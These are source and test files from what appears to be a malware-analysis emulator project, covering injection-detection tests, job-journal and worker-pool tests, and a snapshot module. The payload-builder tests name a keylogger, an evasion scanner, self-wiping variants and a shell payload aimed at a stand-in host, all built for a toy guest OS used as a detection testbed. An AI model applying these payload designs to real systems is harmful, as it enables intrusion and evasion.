        assert chain.executing_process == "explorer.exe"

    def test_cuckoo_remote_write_signatures_stay_silent(self, cuckoo_report):
        names = {s.name for s in cuckoo_report.signatures}
        assert "writes_remote_memory" not in names
        assert "creates_remote_thread" not in names

    def test_cuckoo_cannot_flag(self, cuckoo_report):
        assert cuckoo_report.detect_injection() is False

    def test_malfind_needs_the_resident_stage(self, cuckoo_report):
        detected, hits = cuckoo_report.detect_injection_with_malfind()
        assert detected  # stage (non-transient) still resident in the dump
        assert any(h.process == "explorer.exe" for h in hits)


class TestAtomPrimitives:
    def test_atom_roundtrip(self, machine):
        from tests.conftest import spawn_asm

        proc = spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r1, data
                movi r2, 4
                movi r0, SYS_ADD_ATOM
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, out
                movi r3, 4
                movi r0, SYS_GET_ATOM
                syscall
                ld r1, [r5+out]     ; r5 = 0
                movi r0, SYS_EXIT
                syscall
            data: .word 0x41544f4d
            out: .space 4
            """,
        )
        machine.run()
        assert proc.exit_code == 0x41544F4D

    def test_get_unknown_atom_fails(self, machine):
        from tests.conftest import spawn_asm
        from repro.guestos.syscalls import ERR

        proc = spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r1, 0xdead
                movi r2, buf
                movi r3, 4
                movi r0, SYS_GET_ATOM
                syscall
                mov r1, r0
                movi r0, SYS_EXIT
                syscall
            buf: .space 4
            """,
        )
        machine.run()
        assert proc.exit_code == ERR

    def test_atoms_visible_across_processes(self, machine):
        from tests.conftest import register_asm, spawn_asm

        spawn_asm(
            machine,
            "writer.exe",
            """
            start:
                movi r1, data
                movi r2, 4
                movi r0, SYS_ADD_ATOM
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            data: .ascii "PING"
            """,
        )
        reader = spawn_asm(
            machine,
            "reader.exe",
            """
            start:
                movi r1, 3000
                movi r0, SYS_SLEEP
                syscall
                movi r1, 0xC000     ; first atom id
                movi r2, out
                movi r3, 4
                movi r0, SYS_GET_ATOM
                syscall
                ldb r1, [r5+out]
                movi r0, SYS_EXIT
                syscall
            out: .space 4
            """,
        )
        machine.run()
        assert reader.exit_code == ord("P")
