"""Unit tests for the payload builders (structure, not behaviour)."""

import pytest

from repro.attacks.payloads import (
    PAYLOAD_ENTRY_OFFSET,
    build_keylogger_payload,
    build_popup_payload,
    build_scanner_payload,
    build_shell_payload,
)
from repro.guestos.loader import export_table_address
from repro.isa.disasm import disassemble, looks_like_code
from repro.isa.instructions import INSTRUCTION_SIZE, Op, decode

BASE = 0x60000

BUILDERS = [
    lambda transient=False: build_popup_payload(BASE, transient=transient),
    lambda transient=False: build_keylogger_payload(BASE, transient=transient),
    lambda transient=False: build_shell_payload(BASE, "1.2.3.4", 5555, transient=transient),
    lambda transient=False: build_scanner_payload(BASE, transient=transient),
]


class TestStructure:
    @pytest.mark.parametrize("builder", BUILDERS)
    def test_mz_header_at_start(self, builder):
        assert builder().code.startswith(b"MZ")

    @pytest.mark.parametrize("builder", BUILDERS)
    def test_entry_is_a_valid_instruction(self, builder):
        code = builder().code
        insn = decode(code, PAYLOAD_ENTRY_OFFSET)
        assert insn.op in Op

    @pytest.mark.parametrize("builder", BUILDERS)
    def test_body_disassembles_as_code(self, builder):
        code = builder().code
        assert looks_like_code(code[PAYLOAD_ENTRY_OFFSET : PAYLOAD_ENTRY_OFFSET + 64])

    @pytest.mark.parametrize("builder", BUILDERS)
    def test_assembled_for_requested_base(self, builder):
        prog = builder()
        assert prog.base == BASE
        # Every absolute branch target lies inside the payload image.
        for line in disassemble(prog.code, base=BASE):
            if line.valid and line.text.split()[0] in ("jmp", "jz", "jnz", "call"):
                target = int(line.text.split()[-1], 16)
                assert BASE <= target < BASE + len(prog.code)


class TestExportResolution:
    @pytest.mark.parametrize("builder", BUILDERS[:3])
    def test_resolver_reads_inside_export_table(self, builder):
        """Each hash-resolving stage embeds the export table address."""
        prog = builder()
        table = export_table_address()
        loads_table = any(
            line.valid and line.text == f"movi r4, {table:#x}"
            for line in disassemble(prog.code, base=BASE)
        )
        assert loads_table

    def test_scanner_never_references_export_table(self):
        """The evasion stage must scan code, not the table."""
        prog = build_scanner_payload(BASE)
        table = export_table_address()
        for line in disassemble(prog.code, base=BASE):
            assert f"{table:#x}" not in line.text


class TestTransientVariants:
    @pytest.mark.parametrize("builder", BUILDERS)
    def test_transient_is_larger_and_contains_wipe_loop(self, builder):
        plain = builder().code
        transient = builder(transient=True).code
        assert len(transient) > len(plain)

    @pytest.mark.parametrize("builder", BUILDERS)
    def test_wipe_loop_targets_own_base(self, builder):
        prog = builder(transient=True)
        listing = [l.text for l in disassemble(prog.code, base=BASE) if l.valid]
        assert f"movi r1, {BASE:#x}" in listing  # wipe cursor starts at base


class TestPayloadSizes:
    def test_sizes_are_modest(self):
        # Stages must fit comfortably in one remote allocation.
        for builder in BUILDERS:
            assert len(builder(transient=True).code) < 0x1000
