"""The journal's exactly-once contract, under arbitrary kill points.

The service relies on two properties of :class:`repro.serve.journal.
JobJournal`:

* **Write ordering**: ``accept`` lands (fsynced) before dispatch,
  ``done`` lands before emission.  The journal just appends; the
  ordering itself lives in the service and is exercised by
  ``run_smoke``.
* **Replay soundness**: for *any* byte-truncation of a valid journal
  (a SIGKILL can land mid-``write``), replay recovers a consistent
  prefix -- every surviving ``done`` row verbatim, every
  accepted-but-unfinished job pending in acceptance order, at most one
  torn line, and never an exception.  Hypothesis drives the truncation
  point across generated accept/done histories.
"""

import json
import os

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.triage import TriageJob, TriageResult
from repro.serve.journal import (
    JobJournal,
    JournalCorrupt,
    job_from_json_dict,
    job_to_json_dict,
)


def _job(jid: int) -> TriageJob:
    return TriageJob(job_id=jid, name=f"job-{jid}", kind="pyfunc",
                     params={"target": "t", "kwargs": {"n": jid}})


def _result(jid: int) -> TriageResult:
    return TriageResult(job_id=jid, name=f"job-{jid}", kind="pyfunc",
                        status="OK", verdict=True, attempts=1)


def test_job_round_trips_through_json():
    job = _job(7)
    assert job_from_json_dict(job_to_json_dict(job)) == job


def test_new_journal_writes_header(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path):
        pass
    lines = open(path).read().splitlines()
    assert json.loads(lines[0])["rec"] == "journal"
    # Re-opening an existing journal must not write a second header.
    with JobJournal(path):
        pass
    assert len(open(path).read().splitlines()) == 1


def test_replay_partitions_done_and_pending(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path) as journal:
        for jid in (3, 1, 2):
            journal.append_accept(_job(jid), priority="high", tenant="t0")
        journal.append_done(_result(1))
    state = JobJournal.replay(path)
    assert set(state.accepted) == {1, 2, 3}
    assert set(state.done) == {1}
    # Pending preserves acceptance order, not job_id order.
    assert [e.job.job_id for e in state.pending] == [3, 2]
    assert all(e.priority == "high" and e.tenant == "t0"
               for e in state.accepted.values())
    (rebuilt,) = state.results()
    assert rebuilt == _result(1)


def test_replay_of_missing_file_is_empty(tmp_path):
    state = JobJournal.replay(str(tmp_path / "absent"))
    assert not state.accepted and not state.done and state.torn_lines == 0


def test_torn_tail_is_tolerated(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path) as journal:
        journal.append_accept(_job(1))
        journal.append_done(_result(1))
        journal.append_accept(_job(2))
    blob = open(path, "rb").read()
    open(path, "wb").write(blob[:-5])  # shear the last record mid-line
    state = JobJournal.replay(path)
    assert state.torn_lines == 1
    assert set(state.accepted) == {1}
    assert set(state.done) == {1}


def test_garbage_followed_by_records_is_corruption(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path) as journal:
        journal.append_accept(_job(1))
    with open(path, "r+") as fh:
        lines = fh.read().splitlines()
        fh.seek(0)
        fh.truncate()
        fh.write(lines[0] + "\n{not json\n" + lines[1] + "\n")
    with pytest.raises(JournalCorrupt):
        JobJournal.replay(path)


def test_unknown_record_type_is_corruption(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path):
        pass
    with open(path, "a") as fh:
        fh.write(json.dumps({"rec": "mystery"}) + "\n")
    with pytest.raises(JournalCorrupt):
        JobJournal.replay(path)


def test_duplicate_records_keep_the_first(tmp_path):
    path = str(tmp_path / "j.ndjson")
    with JobJournal(path) as journal:
        journal.append_accept(_job(1), priority="high")
        journal.append_accept(_job(1), priority="low")
        first = _result(1)
        journal.append_done(first)
        second = TriageResult(job_id=1, name="other", kind="pyfunc",
                              status="ERROR", verdict=None, attempts=2)
        journal.append_done(second)
    state = JobJournal.replay(path)
    assert state.accepted[1].priority == "high"
    assert state.done[1] == first.to_json_dict()


# ----------------------------------------------------------------------
# the property: exactly-once under arbitrary kill points
# ----------------------------------------------------------------------

@st.composite
def _histories(draw):
    """A valid service history: dones only for already-accepted jobs."""
    n = draw(st.integers(min_value=1, max_value=8))
    ops = []
    accepted, done = [], set()
    for jid in range(n):
        ops.append(("accept", jid))
        accepted.append(jid)
        # Interleave completions of any accepted-but-unfinished job.
        candidates = [j for j in accepted if j not in done]
        if candidates and draw(st.booleans()):
            victim = draw(st.sampled_from(candidates))
            ops.append(("done", victim))
            done.add(victim)
    return ops


@given(ops=_histories(), data=st.data())
@settings(max_examples=60, deadline=None)
def test_replay_survives_any_truncation(tmp_path_factory, ops, data):
    """Truncate a journal at *any* byte; replay stays consistent.

    The invariants (for every kill point): no exception, at most one
    torn line, every recovered ``done`` has its ``accept``, pending is
    exactly accepted-minus-done in acceptance order, and surviving
    ``done`` rows are byte-for-byte the rows that were written.
    """
    path = str(tmp_path_factory.mktemp("journal") / "j.ndjson")
    with JobJournal(path) as journal:
        for op, jid in ops:
            if op == "accept":
                journal.append_accept(_job(jid))
            else:
                journal.append_done(_result(jid))
    blob = open(path, "rb").read()
    cut = data.draw(st.integers(min_value=0, max_value=len(blob)),
                    label="truncation point")
    open(path, "wb").write(blob[:cut])

    state = JobJournal.replay(path)
    assert state.torn_lines <= 1
    assert set(state.done) <= set(state.accepted), \
        "a done row survived without its accept"
    assert [e.job.job_id for e in state.pending] == [
        jid for jid in state.accepted if jid not in state.done
    ]
    for jid, row in state.done.items():
        assert row == _result(jid).to_json_dict()
    # Determinism: replaying the same bytes yields the same state.
    again = JobJournal.replay(path)
    assert again.accepted == state.accepted and again.done == state.done


@given(ops=_histories())
@settings(max_examples=20, deadline=None)
def test_full_journal_replay_is_lossless(tmp_path_factory, ops):
    path = str(tmp_path_factory.mktemp("journal") / "j.ndjson")
    with JobJournal(path) as journal:
        for op, jid in ops:
            if op == "accept":
                journal.append_accept(_job(jid))
            else:
                journal.append_done(_result(jid))
    state = JobJournal.replay(path)
    assert set(state.accepted) == {jid for op, jid in ops if op == "accept"}
    assert set(state.done) == {jid for op, jid in ops if op == "done"}
    assert state.torn_lines == 0
