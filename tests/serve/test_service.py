"""The serve scheduler: lanes, quotas, backpressure, retries, resume.

These exercise :class:`repro.serve.service.TriageService` in-process
(real journal, real forked workers) without the socket front end; the
socket + client + kill-and-restart path is covered end to end by
``repro serve --smoke`` (:func:`repro.serve.service.run_smoke`).
"""

import time

from repro.analysis.triage import TriageJob
from repro.serve.journal import JobJournal
from repro.serve.service import ServeConfig, TriageService

_DEADLINE = 30.0


def _touch_job(jid: int, log: str) -> TriageJob:
    return TriageJob(
        job_id=jid, name=f"touch-{jid}", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_touch_job",
                "kwargs": {"log_path": log, "token": f"job-{jid}"}})


def _config(tmp_path, **kw) -> ServeConfig:
    return ServeConfig(
        socket_path=str(tmp_path / "serve.sock"),
        journal_path=str(tmp_path / "serve.journal"),
        workers=kw.pop("workers", 1),
        **kw,
    )


def _stop(service: TriageService) -> None:
    if service._dispatcher.is_alive():
        service.stop()
    else:
        # Never started: the dispatcher owns pool teardown only once
        # running, so shut the pool down directly.
        service._stop.set()
        service.pool.shutdown(graceful=True)
        service.journal.close()


def _wait_done(service: TriageService, job_ids, deadline=_DEADLINE) -> None:
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        with service._lock:
            if all(jid in service._done for jid in job_ids):
                return
        time.sleep(0.02)
    raise AssertionError(f"jobs never completed: {job_ids}")


def test_priority_lanes_dispatch_high_before_low(tmp_path):
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path))
    try:
        # Queue strictly before the dispatcher runs, in inverted order.
        order = []
        for jid, priority in ((1, "low"), (2, "normal"), (3, "high")):
            job = _touch_job(jid, log)
            ack = service.submit(
                {"job_id": job.job_id, "name": job.name, "kind": job.kind,
                 "params": job.params}, priority=priority)
            assert ack["rec"] == "ack", ack
        service.subscribe([1, 2, 3],
                          lambda row: order.append(row["result"]["job_id"]))
        service.start()
        _wait_done(service, [1, 2, 3])
    finally:
        _stop(service)
    # One worker, one in-flight slot: completion order is dispatch
    # order, and dispatch drains high before normal before low.
    assert order == [3, 2, 1]


def test_backpressure_rejects_when_queue_is_full(tmp_path):
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path, max_queued=2))
    try:
        acks = [service.submit({"job_id": i, "name": f"j{i}",
                                "kind": "pyfunc",
                                "params": _touch_job(i, log).params})
                for i in range(3)]
    finally:
        _stop(service)
    assert [a["rec"] for a in acks] == ["ack", "ack", "reject"]
    assert "backpressure" in acks[2]["reason"]


def test_tenant_quota_limits_outstanding_jobs(tmp_path):
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path, tenant_quota=1))
    try:
        job = lambda i: {"job_id": i, "name": f"j{i}", "kind": "pyfunc",
                         "params": _touch_job(i, log).params}
        first = service.submit(job(1), tenant="alice")
        second = service.submit(job(2), tenant="alice")
        other = service.submit(job(3), tenant="bob")
    finally:
        _stop(service)
    assert first["rec"] == "ack"
    assert second["rec"] == "reject" and "quota" in second["reason"]
    assert other["rec"] == "ack", "quotas are per-tenant, not global"


def test_malformed_and_unknown_priority_submissions_reject(tmp_path):
    service = TriageService(_config(tmp_path))
    try:
        bad_priority = service.submit({"job_id": 1, "name": "x",
                                       "kind": "pyfunc", "params": {}},
                                      priority="urgent")
        malformed = service.submit({"name": "no-id"})
    finally:
        _stop(service)
    assert bad_priority["rec"] == "reject"
    assert malformed["rec"] == "reject"


def test_resubmission_of_done_job_replays_the_stored_row(tmp_path):
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path))
    job_dict = {"job_id": 5, "name": "touch-5", "kind": "pyfunc",
                "params": _touch_job(5, log).params}
    try:
        service.start()
        assert service.submit(job_dict)["rec"] == "ack"
        _wait_done(service, [5])
        dup = service.submit(job_dict)
        rows = service.subscribe([5], lambda row: None)
    finally:
        _stop(service)
    assert dup == {"rec": "ack", "job_id": 5, "accepted": True,
                   "duplicate": "done"}
    assert rows and rows[0]["result"]["job_id"] == 5
    # Exactly-once across resubmission: the job body ran exactly once.
    assert open(log).read() == "job-5\n"


def test_duplicate_outstanding_submission_acks_without_requeue(tmp_path):
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path))
    job_dict = {"job_id": 5, "name": "touch-5", "kind": "pyfunc",
                "params": _touch_job(5, log).params}
    try:
        assert service.submit(job_dict)["rec"] == "ack"
        dup = service.submit(job_dict)
        queued = service.health()["queued"]
    finally:
        _stop(service)
    assert dup["duplicate"] == "outstanding"
    assert queued == {"high": 0, "normal": 1, "low": 0}


def test_worker_crash_is_retried_to_completion(tmp_path):
    marker = str(tmp_path / "marker")
    log = str(tmp_path / "log")
    service = TriageService(_config(tmp_path))
    try:
        service.start()
        ack = service.submit({
            "job_id": 7, "name": "crash-once", "kind": "pyfunc",
            "params": {"target": "repro.serve.harness:smoke_crash_once_job",
                       "kwargs": {"marker_path": marker, "log_path": log,
                                  "token": "job-7"}}})
        assert ack["rec"] == "ack"
        _wait_done(service, [7])
        with service._lock:
            row = service._done[7]
        snap = service.metrics.snapshot()
    finally:
        _stop(service)
    assert row["status"] == "OK" and row["attempts"] == 2
    assert snap["counters"]["serve.jobs.retried"] == 1
    assert open(log).read() == "job-7\n", "retry must be the only execution"


def test_timeout_is_terminal_not_retried(tmp_path):
    service = TriageService(_config(tmp_path, timeout=0.3))
    try:
        service.start()
        ack = service.submit({
            "job_id": 8, "name": "sleep", "kind": "pyfunc",
            "params": {"target": "repro.serve.harness:smoke_sleep_job",
                       "kwargs": {"seconds": 60.0}}})
        assert ack["rec"] == "ack"
        _wait_done(service, [8])
        with service._lock:
            row = service._done[8]
    finally:
        _stop(service)
    assert row["status"] == "ERROR"
    assert row["fault"]["kind"] == "Timeout"
    assert row["attempts"] == 1, "a wall-clock overrun re-run would overrun again"


def test_restart_resumes_pending_and_keeps_done(tmp_path):
    log = str(tmp_path / "log")
    config = _config(tmp_path)
    first = TriageService(config)
    try:
        first.start()
        for i in range(2):
            assert first.submit({"job_id": i, "name": f"t{i}",
                                 "kind": "pyfunc",
                                 "params": _touch_job(i, log).params})["rec"] \
                == "ack"
        _wait_done(first, [0, 1])
    finally:
        _stop(first)

    # Accept two more against a *fresh* instance and abandon it before
    # its dispatcher ever runs -- the journal now holds 2 done + 2
    # accepted-but-unfinished, exactly the post-SIGKILL disk state.
    wedged = TriageService(config)
    try:
        for i in (2, 3):
            assert wedged.submit({"job_id": i, "name": f"t{i}",
                                  "kind": "pyfunc",
                                  "params": _touch_job(i, log).params})["rec"] \
                == "ack"
    finally:
        _stop(wedged)

    resumed = TriageService(config)
    try:
        snap = resumed.metrics.snapshot()
        assert snap["counters"]["serve.jobs.resumed"] == 2
        ready = resumed.subscribe([0, 1, 2, 3], lambda row: None)
        assert {r["result"]["job_id"] for r in ready} == {0, 1}, \
            "done rows must be re-emittable without re-execution"
        resumed.start()
        _wait_done(resumed, [0, 1, 2, 3])
    finally:
        _stop(resumed)

    state = JobJournal.replay(config.journal_path)
    assert set(state.done) == {0, 1, 2, 3} and not state.pending
    counts = {}
    for line in open(log):
        counts[line.strip()] = counts.get(line.strip(), 0) + 1
    assert counts == {f"job-{i}": 1 for i in range(4)}, \
        f"every job must run exactly once across the restart: {counts}"


def test_health_and_metrics_views(tmp_path):
    service = TriageService(_config(tmp_path, workers=2))
    try:
        service.start()
        health = service.health()
        metrics = service.metrics_view()
    finally:
        _stop(service)
    assert health["ok"] is True
    assert health["queued"] == {"high": 0, "normal": 0, "low": 0}
    assert health["pool"]["size"] == 2
    assert metrics["rec"] == "metrics"
    assert "serve.jobs.accepted" in metrics["metrics"]["counters"]
