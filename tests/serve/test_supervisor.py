"""The supervision tree: results, crashes, timeouts, restart backoff.

These run real ``os.fork`` workers executing pyfunc jobs (the smoke
job bodies from :mod:`repro.serve.harness`), so every assertion here is
about observed process behaviour, not mocks.
"""

import os
import signal
import time

from repro.analysis.triage import TriageJob
from repro.serve.supervisor import (
    MAX_RESTART_BACKOFF,
    SupervisedWorker,
    WorkerPool,
)

_DEADLINE = 30.0


def _touch_job(jid: int, log: str) -> TriageJob:
    return TriageJob(
        job_id=jid, name=f"touch-{jid}", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_touch_job",
                "kwargs": {"log_path": log, "token": f"job-{jid}"}})


def _sleep_job(jid: int, seconds: float) -> TriageJob:
    return TriageJob(
        job_id=jid, name=f"sleep-{jid}", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_sleep_job",
                "kwargs": {"seconds": seconds}})


def _drain(pool: WorkerPool, wanted: int, deadline: float = _DEADLINE):
    events = []
    end = time.monotonic() + deadline
    while len(events) < wanted and time.monotonic() < end:
        events.extend(pool.poll(0.05))
    assert len(events) >= wanted, f"only {len(events)}/{wanted} events"
    return events


def test_worker_round_trips_a_result(tmp_path):
    log = str(tmp_path / "log")
    worker = SupervisedWorker()
    try:
        worker.submit(_touch_job(1, log), attempt=3)
        assert worker.conn.poll(_DEADLINE)
        result = worker.conn.recv()
    finally:
        worker.close()
    assert result.status == "OK" and result.verdict is True
    assert result.attempts == 3
    assert open(log).read() == "job-1\n"


def test_worker_rejects_second_inflight_job(tmp_path):
    worker = SupervisedWorker()
    try:
        worker.submit(_sleep_job(1, 5.0))
        try:
            worker.submit(_sleep_job(2, 5.0))
        except RuntimeError:
            pass
        else:  # pragma: no cover
            raise AssertionError("double submit should raise")
    finally:
        worker.kill()


def test_pool_completes_a_batch(tmp_path):
    log = str(tmp_path / "log")
    with WorkerPool(size=2) as pool:
        jobs = [_touch_job(i, log) for i in range(5)]
        backlog = list(jobs)
        results = []
        end = time.monotonic() + _DEADLINE
        while len(results) < len(jobs) and time.monotonic() < end:
            while backlog and pool.submit(backlog[0]):
                backlog.pop(0)
            results.extend(e.result for e in pool.poll(0.05)
                           if e.kind == "result")
    assert sorted(r.job_id for r in results) == [0, 1, 2, 3, 4]
    tokens = sorted(open(log).read().split())
    assert tokens == sorted(f"job-{i}" for i in range(5))


def test_pool_detects_crash_and_restarts_slot(tmp_path):
    marker = str(tmp_path / "marker")
    crash = TriageJob(
        job_id=9, name="crash", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_crash_once_job",
                "kwargs": {"marker_path": marker}})
    with WorkerPool(size=1) as pool:
        assert pool.submit(crash, attempt=1)
        (event,) = _drain(pool, 1)
        assert event.kind == "crash"
        assert event.job.job_id == 9 and event.attempt == 1
        assert event.fault.kind == "WorkerCrash"
        assert event.fault.retryable, "WorkerCrash must classify retryable"
        # The slot comes back (backoff is short on first failure) and the
        # retry -- marker now present -- completes.
        end = time.monotonic() + _DEADLINE
        while not pool.idle_workers() and time.monotonic() < end:
            time.sleep(0.01)
        assert pool.submit(crash, attempt=2)
        events = _drain(pool, 1)
        assert events[0].kind == "result"
        assert events[0].result.status == "OK"
        assert pool.stats()["restarts"] == 1


def test_pool_enforces_wall_clock_timeout():
    with WorkerPool(size=1, timeout=0.3) as pool:
        assert pool.submit(_sleep_job(1, 60.0))
        start = time.monotonic()
        (event,) = _drain(pool, 1)
        assert event.kind == "timeout"
        assert event.fault.kind == "Timeout"
        assert time.monotonic() - start < 10.0, "timeout sweep too slow"


def test_pool_detects_stalled_worker():
    # A sleeping pyfunc job never advances its progress array, so a
    # short heartbeat window flags it stalled (distinct from a crash:
    # the process is alive, just wedged).
    with WorkerPool(size=1, heartbeat_timeout=0.3) as pool:
        assert pool.submit(_sleep_job(1, 60.0))
        (event,) = _drain(pool, 1)
        assert event.kind == "stalled"
        assert event.fault.kind == "WorkerStalled"
        assert event.fault.retryable


def test_restart_backoff_grows_exponentially():
    pool = WorkerPool(size=1, restart_backoff=0.5)
    try:
        slot = pool._slots[0]
        delays = []
        for _ in range(5):
            slot.worker = SupervisedWorker()
            slot.worker.kill()
            before = time.monotonic()
            pool._schedule_restart(slot)
            delays.append(slot.restart_at - before)
        assert delays == sorted(delays)
        assert delays[0] < delays[3]
        assert all(d <= MAX_RESTART_BACKOFF + 0.01 for d in delays)
    finally:
        pool.shutdown(graceful=False)


def test_completed_job_resets_failure_streak(tmp_path):
    log = str(tmp_path / "log")
    marker = str(tmp_path / "marker")
    crash = TriageJob(
        job_id=1, name="crash", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_crash_once_job",
                "kwargs": {"marker_path": marker}})
    with WorkerPool(size=1) as pool:
        pool.submit(crash)
        _drain(pool, 1)
        assert pool._slots[0].failures == 1
        end = time.monotonic() + _DEADLINE
        while not pool.submit(_touch_job(2, log)):
            assert time.monotonic() < end, "slot never restarted"
            time.sleep(0.01)
        events = _drain(pool, 1)
        assert events[0].kind == "result"
        assert pool._slots[0].failures == 0


def test_worker_survives_parent_directed_sigint(tmp_path):
    """Workers ignore SIGINT: a Ctrl-C aimed at the service must not
    take the fleet down with it (the drain logic owns that decision)."""
    log = str(tmp_path / "log")
    worker = SupervisedWorker()
    try:
        os.kill(worker.pid, signal.SIGINT)
        time.sleep(0.1)
        assert worker.alive()
        worker.submit(_touch_job(1, log))
        assert worker.conn.poll(_DEADLINE)
        assert worker.conn.recv().status == "OK"
    finally:
        worker.close()
