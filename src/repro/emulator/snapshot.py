"""Copy-on-write machine snapshots: boot once, fork per sample.

Every triage job used to boot its guest from scratch -- assembling the
attack images, constructing the kernel, spawning the victim processes --
before a single malicious instruction ran.  This module captures that
post-boot state **once** and materializes runnable guests from it at
sample-execution cost:

* **Physical memory** is captured sparsely: only nonzero
  :data:`~repro.isa.memory.PAGE_SIZE`-granular pages are kept, each as
  an immutable ``bytes`` object shared (CoW, both at the Python level
  and -- when a snapshot-primed process forks workers -- at the OS page
  level) by every guest forked from the snapshot.
* **Kernel / process / address-space state** is deep-frozen into a
  single pickle blob.  A custom pickler maps the machine and allocator
  back-references to persistent sentinels, so the frozen tree is
  self-contained and a thaw re-binds it to a *fresh* machine skeleton.
  One blob per snapshot preserves intra-tree identity (the Thread on
  the ready queue *is* the Thread in ``process.threads``).
* An **integrity digest** (SHA-256 over pages + state + events) is
  verified before every fork; corruption raises
  :class:`SnapshotIntegrityError`, which the warm pool degrades to a
  cold boot with a ``DegradedPool`` fault record
  (:mod:`repro.serve.pool`).

**Bit-identity.**  Analysis plugins must observe boot: FAROS plants
export-table tags from the ``on_module_load`` events a cold
``Scenario.build`` fires during setup.  A forked guest has already
booted, so capture records every plugin-observable hook dispatch as
plain data (a *boot journal*) and :meth:`MachineSnapshot.fork` replays
it -- in order, against the fork's freshly registered plugins -- before
scheduling the scenario's events.  Tracker state, interner counters,
and therefore reports and verdicts end identical to a cold boot; the
differential harness (``tests/emulator/test_snapshot_fork.py``) holds
this across the attack roster.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import pickle
from typing import Dict, List, Optional, Sequence, Tuple

from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.plugins import Plugin
from repro.emulator.record_replay import Recording, Scenario, verify_replay
from repro.faults.errors import EmulatorFault
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE


class SnapshotError(EmulatorFault):
    """A snapshot could not be captured or restored."""


class SnapshotIntegrityError(SnapshotError):
    """The frozen state failed its digest check (corruption).

    An :class:`~repro.faults.errors.EmulatorFault` so it can never
    escape a triage worker as a host crash; the warm pool catches it
    and degrades the job to a cold boot instead.
    """


# ----------------------------------------------------------------------
# sparse page capture (shared with the forensic MemorySnapshot)
# ----------------------------------------------------------------------

def capture_pages(memory) -> Dict[int, bytes]:
    """The nonzero pages of *memory* as ``{page_no: bytes}``.

    Each page is an immutable ``bytes`` object -- the CoW unit every
    consumer (fork restore, forensic reads) shares without copying.
    """
    buf = memory._buf
    size = memory.size
    zero = bytes(PAGE_SIZE)
    pages: Dict[int, bytes] = {}
    pno = 0
    for start in range(0, size, PAGE_SIZE):
        chunk = bytes(buf[start:start + PAGE_SIZE])
        if chunk != zero[: len(chunk)]:
            pages[pno] = chunk
        pno += 1
    return pages


class SparseMemoryImage:
    """Read-only sparse view of captured physical memory.

    Quacks like :class:`~repro.isa.memory.PhysicalMemory` for readers
    (``read_byte``/``read_bytes``/``size``); absent pages read as
    zeroes, exactly what they held at capture time.
    """

    def __init__(self, size: int, pages: Dict[int, bytes]) -> None:
        self.size = size
        self._pages = pages

    @classmethod
    def capture(cls, memory) -> "SparseMemoryImage":
        return cls(memory.size, capture_pages(memory))

    @property
    def resident_pages(self) -> int:
        return len(self._pages)

    def read_byte(self, paddr: int) -> int:
        page = self._pages.get(paddr >> PAGE_SHIFT)
        if page is None:
            if not 0 <= paddr < self.size:
                raise IndexError(f"paddr {paddr:#x} outside {self.size}-byte memory")
            return 0
        return page[paddr & (PAGE_SIZE - 1)]

    def read_bytes(self, paddr: int, n: int) -> bytes:
        # bytes-slice semantics: clamp to the captured size, never raise.
        start = max(paddr, 0)
        end = min(paddr + max(n, 0), self.size)
        if end <= start:
            return b""
        out = bytearray(end - start)
        pos = start
        while pos < end:
            off = pos & (PAGE_SIZE - 1)
            take = min(PAGE_SIZE - off, end - pos)
            page = self._pages.get(pos >> PAGE_SHIFT)
            if page is not None:
                out[pos - start:pos - start + take] = page[off:off + take]
            pos += take
        return bytes(out)

    def blit_into(self, memory) -> None:
        """Write the captured pages into a fresh (all-zero) memory."""
        buf = memory._buf
        for pno, page in self._pages.items():
            start = pno << PAGE_SHIFT
            buf[start:start + len(page)] = page


# ----------------------------------------------------------------------
# the boot journal (plugin-observable events during setup)
# ----------------------------------------------------------------------

class BootJournalRecorder(Plugin):
    """Records every plugin-observable hook dispatch as plain data.

    Registered (alone) on the capture machine for the duration of
    ``scenario.setup``; the recorded tuples reference guest objects by
    stable keys (pids, module bases) so replay can resolve them against
    the *forked* machine's restored kernel tree.
    """

    name = "boot-journal"

    def __init__(self) -> None:
        super().__init__()
        self.events: List[tuple] = []

    # Per-instruction hooks cannot fire during setup (nothing executes),
    # so the recorder deliberately leaves on_insn_exec unimplemented --
    # which also keeps wants_insn_effects() False.

    def on_phys_write(self, machine, paddrs, source) -> None:
        self.events.append(("on_phys_write", tuple(paddrs), source))

    def on_phys_copy(self, machine, dst_paddrs, src_paddrs, actor=None) -> None:
        self.events.append((
            "on_phys_copy", tuple(dst_paddrs), tuple(src_paddrs),
            actor.pid if actor is not None else None,
        ))

    def on_file_read(self, machine, process, path, version, paddrs) -> None:
        self.events.append(("on_file_read", process.pid, path, version, tuple(paddrs)))

    def on_file_write(self, machine, process, path, version, paddrs) -> None:
        self.events.append(("on_file_write", process.pid, path, version, tuple(paddrs)))

    def on_module_load(self, machine, process, module) -> None:
        self.events.append(("on_module_load", process.pid, module.base))

    def on_process_create(self, machine, process) -> None:
        self.events.append(("on_process_create", process.pid))

    def on_process_exit(self, machine, process, status) -> None:
        self.events.append(("on_process_exit", process.pid, status))

    def on_frames_freed(self, machine, frames) -> None:
        self.events.append(("on_frames_freed", tuple(frames)))

    def on_packet_receive(self, machine, packet, paddrs) -> None:
        self.events.append(("on_packet_receive", packet, tuple(paddrs)))

